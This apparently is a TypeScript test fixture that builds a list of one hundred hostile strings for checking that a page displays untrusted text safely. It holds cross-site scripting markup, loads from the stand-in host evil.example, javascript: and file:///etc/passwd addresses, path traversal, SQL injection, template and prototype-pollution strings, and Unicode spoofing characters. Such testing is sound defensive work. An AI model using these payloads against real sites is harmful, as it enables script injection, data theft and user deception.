// One hundred texts that attack a page which shows them: markup, scripts, styles, templates, addresses with
// unusual schemes, and characters that change how a text looks. Each calls or requests something that a
// test can notice.
const FOREIGN = 'https://evil.example/x';

const MARKUP: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  `<script src="${FOREIGN}"></script>`,
  '<img src=x onerror=alert(1)>',
  `<img src="${FOREIGN}">`,
  '<svg onload=alert(1)>',
  `<svg><image href="${FOREIGN}"/></svg>`,
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  `<iframe src="${FOREIGN}"></iframe>`,
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  `<object data="${FOREIGN}"></object>`,
  `<embed src="${FOREIGN}">`,
  `<link rel=stylesheet href="${FOREIGN}">`,
  `<style>@import "${FOREIGN}";</style>`,
  `<div style="background:url(${FOREIGN})">x</div>`,
  `<base href="${FOREIGN}">`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN}">`,
  `<form action="${FOREIGN}"><button autofocus>x</button></form>`,
  `<video src="${FOREIGN}" autoplay></video>`,
  `<audio src="${FOREIGN}" autoplay></audio>`,
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
];

const ADDRESSES: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  'https://user:password@evil.example/',
  'https://evil.example\\@loimel.example',
  '//evil.example/x.js',
  'https://evil.example/"onmouseover="alert(1)',
  "https://evil.example/'onmouseover='alert(1)",
  'https://evil.example/<script>alert(1)</script>',
];

const TEMPLATES: readonly string[] = [
  '{{constructor.constructor("alert(1)")()}}',
  `\${alert(1)}`,
  '{name}{number}{sender}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '[[alert(1)]]',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  "'; drop table app.contacts; --",
  "' or '1'='1",
  '%00',
  '../../../etc/passwd',
  '=HYPERLINK("https://evil.example")',
];

const LOOKS: readonly string[] = [
  '\u202Etxt.exe\u202C',
  '\u2066hidden\u2069',
  'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C',
  '\u200B\u200C\u200D\uFEFF',
  '\u2028alert(1)\u2029',
  'раураl',
  '👩‍👩‍👧‍👦'.repeat(10),
  'W'.repeat(110),
  '\uE000mark\uE001',
  '\uE001\uE001\uE000',
];

const DISTINCT = [...MARKUP, ...ADDRESSES, ...TEMPLATES, ...LOOKS];

/** The distinct ones, then combinations of two until there are a hundred. */
export const HOSTILE_PAYLOADS: readonly string[] = Array.from({ length: 100 }, (_, index) => {
  const first = DISTINCT[index % DISTINCT.length] ?? '';
  if (index < DISTINCT.length) return first;
  return `${DISTINCT[(index * 7) % MARKUP.length]} ${first}`;
});
